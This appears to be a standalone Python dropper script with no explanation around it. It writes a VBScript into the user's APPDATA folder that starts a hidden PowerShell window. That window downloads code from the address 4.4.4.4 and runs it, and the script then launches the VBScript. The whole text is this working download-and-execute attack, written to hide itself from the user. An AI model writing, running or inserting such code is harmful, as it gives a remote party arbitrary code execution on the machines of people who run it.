import os
vbs = os.path.join(os.environ["APPDATA"], "x.vbs")
open(vbs, "w").write('CreateObject("WScript.Shell").Run "powershell -w hidden -c iex(iwr http://4.4.4.4/p)", 0')
os.system("wscript " + vbs)
